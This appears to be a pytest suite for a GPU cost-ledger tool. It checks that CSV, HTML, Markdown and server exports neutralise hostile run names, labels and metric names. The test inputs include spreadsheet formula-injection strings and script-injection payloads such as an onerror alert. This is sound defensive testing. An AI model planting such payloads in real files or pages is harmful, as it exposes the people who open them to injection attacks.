"""Outputs that must not attack their reader (issue 33): runs whose team, user, host, device name, run
name, labels and metric names are hostile, written to a real SQLite ledger and reported by real
``gpuledger`` processes. Every CSV (chargeback, cost, FOCUS, capacity, fleet, export, epochs) is read
back with the csv module: no text cell begins like a formula, numbers (negative ones too) stay
numbers. Every HTML page carries a Content-Security-Policy, its JSON blocks hold no ``<``, and a real
Chromium shows it without an alert or a console error. The Markdown holds no raw HTML."""

from __future__ import annotations

import csv
import io
import json
import math
import os
import re
import subprocess
import sys
from collections.abc import Collection
from decimal import Decimal
from pathlib import Path

import httpx
import pytest

from browser_support import ARGS, CHROMIUM, need_browser
from cost_support import ts
from gpuledger.core.capacity.columns import COLUMNS as CAPACITY_COLUMNS
from gpuledger.core.chargeback.columns import COLUMNS as CHARGEBACK_COLUMNS
from gpuledger.core.chargeback.focus_v13 import FOCUS_VERSIONS, columns_for
from gpuledger.core.model import Event, GpuIdentity, GpuInterval, HostInterval, Metric, RunRecord
from gpuledger.reports.run.export import COLUMNS as EXPORT_COLUMNS
from gpuledger.reports.safe_csv import SafeCsvWriter
from gpuledger.store import Ledger
from server_support import ServerProcess, batch, bearer, run_doc, setup_accounts

HOSTILE = (
    '=HYPERLINK("http://x/"&A1,"gpu")',
    "+SUM(1)",
    "-2+3",
    "@cmd",
    "\tX",
    "\rX",
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "a|b",
)
FORMULA = ("=", "+", "-", "@", "\t", "\r")
SPREADSHEET_HOSTILE = [h for h in HOSTILE if h.startswith(FORMULA)]
MARKUP = ("<script", "</script", "<img")
H = 3600.0
MARCH = ts("2026-03-02")
RATES = '[card]\ncurrency = "USD"\nbasis = "allocated"\n\n[[gpu]]\nmodel = "A100-40GB-SXM"\nprice_per_hour = "2.50"\n'
A100 = "NVIDIA A100-SXM4-40GB"
NEGATIVE = (-1.5, -0.01)  # a training metric below zero (a log-likelihood, a shifted loss)


def _run_id(n: int) -> str:
    return f"01900000-0000-7000-8000-0000000005{n:02d}"


def _add_run(led: Ledger, n: int, text: str) -> None:
    """A run with every text field set to ``text``, on a priced A100 (money) and on a GPU named ``text``
    (a device name reaches gpu_model, the fleet and the export)."""
    start = MARCH + n * 2 * H
    run = RunRecord(id=_run_id(n), command=["train", text], user=text, host=text, cwd="/", started_at=start,
                    ended_at=start + H, status="succeeded", name=text,
                    labels={"team": text, "project": text, "model": text, "k": text})  # fmt: skip
    led.create_run(run)
    led.add_devices(run.id, [GpuIdentity(0, f"GPU-{n}-a", A100), GpuIdentity(1, f"GPU-{n}-b", text)])
    for uuid in (f"GPU-{n}-a", f"GPU-{n}-b"):
        gpu = [GpuInterval(uuid, k, start + k * 600, start + (k + 1) * 600, busy_s=300.0, energy_j=6e4)
               for k in range(6)]  # fmt: skip
        led.append(run.id, gpu=gpu)
    led.append(run.id, host=[HostInterval(k, start + k * 600, start + (k + 1) * 600, cpu_s=60.0) for k in range(6)])
    events, metrics = [], []
    for e in (1, 2):
        t = start + e * 1800
        events += [Event(t - 1800, "epoch_start", "", {"epoch": e}), Event(t, "epoch_end", text, {"epoch": e})]
        metrics += [Metric(t, text, 0.5, e), Metric(t, "train/shift", NEGATIVE[e - 1], e)]
    led.append(run.id, events=events, metrics=metrics)


@pytest.fixture(scope="module")
def ledger(tmp_path_factory: pytest.TempPathFactory) -> dict[str, str]:
    """One run per hostile string (_add_run)."""
    root = tmp_path_factory.mktemp("safe")
    db = f"sqlite:///{root}/ledger.db"
    with Ledger(db) as led:
        for n, text in enumerate(HOSTILE):
            _add_run(led, n, text)
    (root / "rates.toml").write_text(RATES)
    return {"db": db, "rates": str(root / "rates.toml"), "root": str(root)}


def _gpuledger(ledger: dict[str, str], *args: str) -> str:
    """A real ``gpuledger`` process; its stdout."""
    env = {**os.environ, "GPULEDGER_RATES": ledger["rates"], "COLUMNS": "200"}
    cmd = [sys.executable, "-m", "gpuledger", *args, "--db", ledger["db"]]
    done = subprocess.run(cmd, capture_output=True, env=env, timeout=300)  # bytes: a \r stays a \r
    assert done.returncode == 0, (args, done.stderr)
    return done.stdout.decode("utf-8")


# -- CSV -------------------------------------------------------------------------------------------


def _number(cell: str) -> bool:
    try:
        return math.isfinite(float(cell))
    except ValueError:
        return False


def _check_csv(text: str, numeric: Collection[str]) -> list[dict[str, str]]:
    """Every cell that starts like a formula is a number in a numeric column; returns the rows."""
    rows = list(csv.reader(io.StringIO(text, newline="")))
    header = rows[0]
    assert not [h for h in header if h.startswith(FORMULA)], header
    bad = [
        (column, cell)
        for row in rows[1:]
        for column, cell in zip(header, row, strict=True)
        if cell.startswith(FORMULA) and not (column in numeric and _number(cell))
    ]
    assert not bad, bad
    return [dict(zip(header, row, strict=True)) for row in rows[1:]]


def _neutralised(text: str, hostile: Collection[str]) -> None:
    """Each hostile string reached the file, quoted, behind a single quote: the check above was not empty."""
    cells = {cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row}
    for h in hostile:
        assert "'" + h in cells, h
        assert '"' + "'" + h.replace('"', '""') + '"' in text, h  # and the cell is quoted


def _numeric(columns: Collection[object]) -> set[str]:
    return {c.name for c in columns if c.unit not in ("text", "time", "")}  # type: ignore[attr-defined]


CHARGEBACK_NUMERIC = _numeric([c for cols in CHARGEBACK_COLUMNS.values() for c in cols])
CAPACITY_NUMERIC = _numeric([c for cols in CAPACITY_COLUMNS.values() for c in cols])
FOCUS_NUMERIC = {v: {c.name for c in columns_for(v) if c.kind == "decimal"} for v in FOCUS_VERSIONS}
EXPORT_NUMERIC = {c.name for c in EXPORT_COLUMNS if c.kind != "str"}


@pytest.mark.parametrize("section", ["groups", "runs", "users"])
def test_chargeback_csv_sections_hold_no_formula(ledger: dict[str, str], section: str) -> None:
    by = "team,user,gpu_model"
    text = _gpuledger(ledger, "report", "chargeback", "--month", "2026-03", "--by", by, "--format", "csv",
                      "--section", section)  # fmt: skip
    rows = _check_csv(text, CHARGEBACK_NUMERIC)
    _neutralised(text, SPREADSHEET_HOSTILE)
    assert any(r["cost"] not in ("", "0", "0.00") for r in rows)  # money was written, as a number


def test_cost_csv_holds_no_formula(ledger: dict[str, str]) -> None:
    ids = [_run_id(n) for n in range(len(HOSTILE))]
    text = _gpuledger(ledger, "cost", *ids, "--format", "csv")
    _check_csv(text, CHARGEBACK_NUMERIC)
    _neutralised(text, SPREADSHEET_HOSTILE)  # gpu_model


@pytest.mark.parametrize("version", FOCUS_VERSIONS)
def test_focus_csv_holds_no_formula(ledger: dict[str, str], version: str) -> None:
    args = ["--month", "2026-03", "--format", "focus", "--focus-version", version]
    text = _gpuledger(ledger, "report", "chargeback", *args)
    rows = _check_csv(text, FOCUS_NUMERIC[version])
    _neutralised(text, SPREADSHEET_HOSTILE)
    assert rows and all(_number(r["BilledCost"]) for r in rows)


def test_capacity_and_fleet_csv_hold_no_formula(ledger: dict[str, str]) -> None:
    text = _gpuledger(ledger, "report", "capacity", "--month", "2026-03", "--by", "host,gpu_model", "--format", "csv")
    _check_csv(text, CAPACITY_NUMERIC)
    _neutralised(text, SPREADSHEET_HOSTILE)
    fleet = _gpuledger(ledger, "report", "fleet", "--format", "csv")
    _check_csv(fleet, CAPACITY_NUMERIC)
    _neutralised(fleet, SPREADSHEET_HOSTILE)  # host


@pytest.mark.parametrize("version", FOCUS_VERSIONS)
def test_capacity_focus_holds_no_formula(ledger: dict[str, str], version: str) -> None:
    text = _gpuledger(
        ledger, "report", "capacity", "--month", "2026-03", "--format", "focus", "--focus-version", version
    )
    _check_csv(text, FOCUS_NUMERIC[version])
    _neutralised(text, SPREADSHEET_HOSTILE)


@pytest.mark.parametrize("n", [HOSTILE.index(h) for h in SPREADSHEET_HOSTILE])
def test_export_csv_neutralises_the_device_name(ledger: dict[str, str], n: int) -> None:
    text = _gpuledger(ledger, "export", _run_id(n))
    rows = _check_csv(text, EXPORT_NUMERIC)
    _neutralised(text, [HOSTILE[n]])
    names = [r["gpu_name"] for r in rows if r["series"] == "gpu"]
    assert names.count("'" + HOSTILE[n]) == 6 and names.count(A100) == 6


def test_epochs_csv_neutralises_metric_names_and_keeps_negative_numbers(ledger: dict[str, str]) -> None:
    for h in SPREADSHEET_HOSTILE:
        text = _gpuledger(ledger, "export", _run_id(HOSTILE.index(h)), "--metrics")
        header = next(csv.reader(io.StringIO(text, newline="")))
        assert "'" + h in header, header  # the metric's name, as a column name
        numeric = set(header) - {"run_id", "phase", "'" + h}
        rows = _check_csv(text, numeric)
        assert [float(r["train/shift"]) for r in rows if r["train/shift"]] == list(NEGATIVE), h
        assert ",-1.5\n" in text and ",-0.01\n" in text and "'-1.5" not in text  # bare numbers, no quote


# -- HTML ------------------------------------------------------------------------------------------


def _pages(ledger: dict[str, str], out: Path) -> dict[str, str]:
    """Every HTML report over the hostile runs: chargeback (with value trends), capacity, run, compare."""
    pages = {
        "chargeback": ["report", "chargeback", "--month", "2026-03", "--by", "team,user", "--format", "html"],
        "capacity": ["report", "capacity", "--month", "2026-03", "--by", "host", "--format", "html"],
        "run": ["report", "run", _run_id(6), "--format", "html"],
        "compare": ["compare", _run_id(6), _run_id(7), "--format", "html"],
    }
    texts = {}
    for name, args in pages.items():
        path = out / f"{name}.html"
        _gpuledger(ledger, *args, "-o", str(path))
        texts[name] = path.read_text(encoding="utf-8")
    return texts


@pytest.fixture(scope="module")
def pages(ledger: dict[str, str], tmp_path_factory: pytest.TempPathFactory) -> dict[str, str]:
    return _pages(ledger, tmp_path_factory.mktemp("pages"))


@pytest.mark.parametrize("name", ["chargeback", "capacity", "run", "compare"])
def test_every_page_has_a_policy_and_no_live_markup(pages: dict[str, str], name: str) -> None:
    page = pages[name]
    head = page[: page.index("</head>")]
    meta = re.search(r'<meta http-equiv="Content-Security-Policy" content="([^"]+)">', head)
    assert meta, name
    assert head.index(meta.group(0)) < head.index("<style>")  # before anything it governs
    policy = meta.group(1).replace("&#x27;", "'").replace("&#39;", "'")
    assert "default-src 'none'" in policy and "unsafe" not in policy and "http" not in policy
    for mark in MARKUP:
        assert mark not in page.replace("<script>", "").replace("</script>", "").replace(
            '<script type="application/json"', ""
        ), (name, mark)
    blocks = re.findall(r'<script type="application/json" id="([\w-]+)">(.*?)</script>', page, re.S)
    assert blocks, name
    for element, body in blocks:
        assert not set(body) & set("<>&\u2028\u2029"), (name, element)
        assert json.loads(body) is not None


def test_the_json_blocks_carry_the_hostile_names_back(pages: dict[str, str]) -> None:
    body = re.search(r'id="chargeback-data">(.*?)</script>', pages["chargeback"], re.S)
    assert body and {r["team"] for r in json.loads(body.group(1))["groups"]} >= set(HOSTILE)
    weekly = re.search(r'id="value-trends-data">(.*?)</script>', pages["chargeback"], re.S)  # the value trends
    assert weekly and {r["model_version"] for r in json.loads(weekly.group(1))["series"]} >= set(HOSTILE)


@pytest.mark.parametrize("name", ["chargeback", "capacity", "run", "compare"])
def test_chromium_shows_each_page_without_an_alert_or_an_error(
    pages: dict[str, str], name: str, tmp_path: Path
) -> None:
    sync_playwright = need_browser()
    path = tmp_path / f"{name}.html"
    path.write_text(pages[name], encoding="utf-8")
    with sync_playwright() as p:
        browser = p.chromium.launch(executable_path=CHROMIUM, args=ARGS)
        try:
            page = browser.new_page()
            dialogs: list[str] = []
            problems: list[str] = []
            page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
            page.on("console", lambda m: problems.append(m.text) if m.type in ("error", "warning") else None)
            page.on("pageerror", lambda e: problems.append(str(e)))
            page.goto(path.as_uri())
            page.wait_for_load_state("load")
            assert not dialogs, dialogs
            assert not problems, problems  # the policy refused nothing of the page's own
            assert page.evaluate("document.querySelectorAll('img').length") == 0
            styled = page.evaluate("getComputedStyle(document.body).fontFamily")
            assert styled and styled != "serif"  # the page's own style sheet applied
        finally:
            browser.close()


# -- Markdown --------------------------------------------------------------------------------------


def _markdown(ledger: dict[str, str]) -> dict[str, str]:
    return {
        "chargeback": _gpuledger(
            ledger, "report", "chargeback", "--month", "2026-03", "--by", "team,user", "--format", "md"
        ),
        "capacity": _gpuledger(ledger, "report", "capacity", "--month", "2026-03", "--by", "host", "--format", "md"),
        "fleet": _gpuledger(ledger, "report", "fleet", "--format", "md"),
        "run": _gpuledger(ledger, "report", "run", _run_id(6), "--format", "md"),
        "compare": _gpuledger(ledger, "compare", _run_id(6), _run_id(8), "--format", "md"),
    }


def _tables(md: str) -> list[list[str]]:
    """The Markdown's tables, each as its lines."""
    tables: list[list[str]] = []
    previous = False
    for line in md.splitlines():
        if line.startswith("|"):
            if not previous:
                tables.append([])
            tables[-1].append(line)
        previous = line.startswith("|")
    return tables


def test_markdown_holds_no_raw_html_and_keeps_its_tables(ledger: dict[str, str]) -> None:
    for name, md in _markdown(ledger).items():
        ours = md.replace("<sub>", "").replace("</sub>", "")  # the run report's own footer
        assert "<" not in ours, (name, [line for line in ours.splitlines() if "<" in line])
        assert "&lt;img src=x onerror=alert(1)&gt;" in md or "&lt;/script&gt;" in md, name
        assert "a\\|b" in md or name == "run", name  # a pipe in a name, escaped
        tables = _tables(md)
        assert tables, name
        for table in tables:  # a name cannot add a cell or a row: every row has its header's cells
            widths = {len(re.split(r"(?<!\\)\|", line)) for line in table}
            assert len(widths) == 1, (name, table)


# -- the server ------------------------------------------------------------------------------------


def test_the_servers_export_and_dashboard_are_safe_too(ledger_url: str) -> None:
    """A real ``gpuledger serve``: a pushed run whose GPU is named like a formula comes back from
    ``GET /runs/{id}/export?format=csv`` neutralised; the dashboard's pages send a policy header."""
    tokens = setup_accounts(ledger_url)
    body = batch(run_doc(name=HOSTILE[0]), n=4)
    body["devices"][0]["name"] = HOSTILE[0]
    with ServerProcess(ledger_url) as server:
        pushed = httpx.post(server.url + "/api/v1/ingest", json=body, headers=bearer(tokens.agent_a), timeout=30)
        assert pushed.status_code == 200, pushed.text
        url = f"{server.url}/api/v1/runs/{body['run']['id']}/export"
        text = httpx.get(url, params={"format": "csv"}, headers=bearer(tokens.member_a), timeout=30).text
        page = httpx.get(server.url + "/dashboard/", timeout=30)
    rows = _check_csv(text, EXPORT_NUMERIC)
    _neutralised(text, [HOSTILE[0]])
    assert [r["gpu_name"] for r in rows if r["series"] == "gpu"] == ["'" + HOSTILE[0]] * 4
    policy = page.headers["content-security-policy"]
    assert "default-src 'none'" in policy and "script-src 'self'" in policy and "unsafe" not in policy
    assert page.headers["x-content-type-options"] == "nosniff"


# -- the writer itself -----------------------------------------------------------------------------


def test_numbers_are_decided_by_type_and_column() -> None:
    out = io.StringIO()
    writer = SafeCsvWriter(out, ["name", "cost", "loss"], numeric={"cost"})
    writer.writerow(["-1.50", "-1.50", -1.5])  # text column: neutralised; money string and float: numbers
    writer.writerow(["x", "-2+3", Decimal("-0.01")])  # not a number, even in a numeric column
    writer.writerow(["@cmd", "+1e3", float("-inf")])
    writer.writerow([None, None, None])
    lines = ["name,cost,loss", '"\'-1.50",-1.50,-1.5', 'x,"\'-2+3",-0.01', '"\'@cmd",+1e3,-inf', ",,"]
    assert out.getvalue() == "\n".join(lines) + "\n"


def test_clean_rows_are_byte_for_byte_the_csv_modules() -> None:
    rows = [["a,b", 'say "hi"', 1, 2.5, None, "line\nbreak", Decimal("3.10"), True, ""]] * 3
    header = [f"c{i}" for i in range(9)]
    plain = io.StringIO()
    reference = csv.writer(plain, lineterminator="\n")
    reference.writerow(header)
    reference.writerows(["" if v is None else v for v in row] for row in rows)
    ours = io.StringIO()
    SafeCsvWriter(ours, header).writerows(rows)
    assert ours.getvalue() == plain.getvalue()


def test_a_row_with_a_neutralised_cell_still_reads_back_cell_for_cell() -> None:
    row = ['=HYPERLINK("x","y")', "a,b", 'q"q', "line\nbreak", 7, -0.5, None, "\rX", "plain"]
    out = io.StringIO()
    SafeCsvWriter(out, [f"c{i}" for i in range(len(row))], numeric={"c5"}).writerow(row)
    back = list(csv.reader(io.StringIO(out.getvalue(), newline="")))[1]
    expected = ['\'=HYPERLINK("x","y")', "a,b", 'q"q', "line\nbreak", "7", "-0.5", "", "'\rX", "plain"]
    assert back == expected
